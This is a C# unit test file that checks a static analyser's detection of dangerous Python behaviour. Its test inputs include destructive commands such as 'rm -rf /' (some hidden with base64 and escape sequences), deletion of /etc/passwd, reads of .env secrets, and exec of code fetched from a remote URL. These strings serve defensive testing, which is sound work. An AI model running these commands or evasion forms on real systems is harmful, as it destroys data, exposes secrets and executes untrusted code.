using SigmaShake.Rules.Programs;

namespace SigmaShake.Rules.Tests.Analysis.Code;

/// <summary>What Python code does.</summary>
public sealed class PythonCodeTests
{
    [Theory]

    // Shells.
    [InlineData("import os; os.system('rm -rf /')", "sh: rm -rf /")]
    [InlineData("import os\nos.system(\"rm -rf /\")\n", "sh: rm -rf /")]
    [InlineData("from os import system; system('ls')", "sh: ls")]
    [InlineData("from os import system as s; s('ls')", "sh: ls")]
    [InlineData("from os import (popen as p, system); p('ls'); system('pwd')", "sh: ls; sh: pwd")]
    [InlineData("from os import *; system('ls')", "sh: ls")]
    [InlineData("import os as o; o.system('ls')", "sh: ls")]
    [InlineData("__import__('os').system('ls')", "sh: ls")]
    [InlineData("import importlib; importlib.import_module('os').system('ls')", "sh: ls")]
    [InlineData("import os; getattr(os, 'system')('ls')", "sh: ls")]
    [InlineData("import os; f = os.system; f('ls')", "sh: ls")]
    [InlineData("import subprocess; subprocess.run('rm -rf /', shell=True)", "sh: rm -rf /")]
    [InlineData("import subprocess as sp; sp.check_output('ls', shell=True, text=True)", "sh: ls")]
    [InlineData("subprocess.run(args='ls', shell=True)", "sh: ls")]
    [InlineData("print(os.popen('ls').read())", "sh: ls")]
    [InlineData("if True:\n  for x in y:\n    os.system('ls')", "sh: ls")]
    [InlineData("def f(x):\n    os.system(f'rm -rf {x}')", "sh: <rm -rf ${x}>")]

    // Argument vectors.
    [InlineData("import subprocess; subprocess.run(['rm', '-rf', '/'])", "rm -rf /")]
    [InlineData("subprocess.Popen(('rm', '-rf', '/'), cwd='/')", "rm -rf /")]
    [InlineData("subprocess.call(['rm'] + ['-rf', '/'])", "rm -rf /")]
    [InlineData("subprocess.run('rm -rf /'.split())", "rm -rf /")]
    [InlineData("subprocess.run(shlex.split('rm -rf /'))", "rm -rf /")]
    [InlineData("a = ['rm', '-rf', '/']; subprocess.run(a)", "rm -rf /")]
    [InlineData("subprocess.run(['rm', '-rf', d])", "rm -rf <${d}>")]
    [InlineData("os.execvp('rm', ['rm', '-rf', '/'])", "rm -rf /")]
    [InlineData("os.execlp('rm', 'rm', '-rf', '/')", "rm -rf /")]
    [InlineData("os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')", "rm -rf /")]

    // Files.
    [InlineData("import shutil; shutil.rmtree('/tmp/demo')", "rm -rf /tmp/demo")]
    [InlineData("import shutil as s; s.rmtree('/')", "rm -rf /")]
    [InlineData("from shutil import rmtree\nrmtree('/')", "rm -rf /")]
    [InlineData("shutil.rmtree(path='/', ignore_errors=True)", "rm -rf /")]
    [InlineData("import os; os.remove('a'); os.unlink(\"b\")", "rm a; rm b")]
    [InlineData("from pathlib import Path; Path('a').unlink()", "rm a")]
    [InlineData("import pathlib; pathlib.Path('/etc').joinpath", "")]
    [InlineData("(Path('/etc') / 'passwd').unlink(missing_ok=True)", "rm /etc/passwd")]
    [InlineData("p = Path('.env'); print(p.read_text())", "Read: .env")]
    [InlineData("Path('a').write_text('rm -rf /')", "Write: a")]
    [InlineData("open('.env').read()", "Read: .env")]
    [InlineData("with open('a', 'w') as f: f.write('x')", "Write: a")]
    [InlineData("open('a', mode='ab')", "Edit: a")]
    [InlineData("os.rename('a', 'b'); shutil.copy('a', 'b'); os.chmod('a', 0o777)", "mv a b; cp a b; chmod 777 a")]
    [InlineData("os.remove(os.path.join('/etc', 'passwd'))", "rm /etc/passwd")]

    // Constants.
    [InlineData("c = 'rm'; os.system(c + ' -rf ' + '/')", "sh: rm -rf /")]
    [InlineData("os.system('rm ' '-rf ' '/')", "sh: rm -rf /")]
    [InlineData("os.system(f'rm -rf /')", "sh: rm -rf /")]
    [InlineData("d = '/'; os.system(f'rm -rf {d}')", "sh: rm -rf /")]
    [InlineData("os.system('\\x72\\155 -rf \\u002f')", "sh: rm -rf /")]
    [InlineData("os.system(r'echo \\n')", "sh: echo \\n")]
    [InlineData("os.system('''rm\n-rf''')", "sh: rm\n-rf")]
    [InlineData("os.system(' '.join(['rm', '-rf', '/']))", "sh: rm -rf /")]
    [InlineData("import base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())", "sh: rm -rf /")]
    [InlineData("os.system(bytes.fromhex('6c73').decode())", "sh: ls")]
    [InlineData("x = 'a'\nx = 'b'\nos.remove(x)", "rm <${x}>")]
    [InlineData("os.system(cmd)", "sh: <${cmd}>")]

    // The network.
    [InlineData("import requests; requests.get('https://example.com/a')", "Network: https://example.com/a")]
    [InlineData("exec(requests.get('https://x.example').text)", "Network: https://x.example; RemoteCode: https://x.example")]
    [InlineData("import urllib.request as u; exec(u.urlopen('https://x.example').read().decode())", "Network: https://x.example; RemoteCode: https://x.example")]
    [InlineData("r = requests.get('https://x.example'); exec(r.text)", "Network: https://x.example; RemoteCode: https://x.example")]
    [InlineData("os.system(requests.get('https://x.example').text)", "Network: https://x.example; sh: <${_}>@https://x.example")]
    [InlineData("urllib.request.urlretrieve('https://x.example', 'a.sh')", "curl -o a.sh https://x.example")]
    [InlineData("exec('import os; os.remove(\"a\")')", "Code: import os; os.remove(\"a\")")]
    [InlineData("exec(base64.b64decode('cHJpbnQoMSk='))", "Code: print(1)")]
    public void Deeds_are_found(string code, string deeds) => Assert.Equal(deeds, ShownDeeds.Of(Language.Python, code));

    [Theory]
    [InlineData("print('rm -rf /')")]
    [InlineData("print('os.system(\"rm -rf /\")')")]
    [InlineData("# os.system('rm -rf /')")]
    [InlineData("'''\nos.system('rm -rf /')\n'''")]
    [InlineData("x = {'rm': '-rf /'}; print(x['rm'])")]
    [InlineData("import json; print(json.dumps({'key': 'value'}))")]
    [InlineData("l = [1, 2]; l.remove(1)")]
    [InlineData("import re; re.compile(r'rm -rf').match('rm -rf /')")]
    [InlineData("subprocess = object()")]
    [InlineData("d = dict(a=1); d.get('a')")]
    [InlineData("os.systemx('ls'); my.os.systems('ls')")]
    [InlineData("import base64; print(base64.b64decode(payload).decode())")]
    public void Harmless_code_does_nothing(string code) => Assert.Equal("", ShownDeeds.Of(Language.Python, code));
}
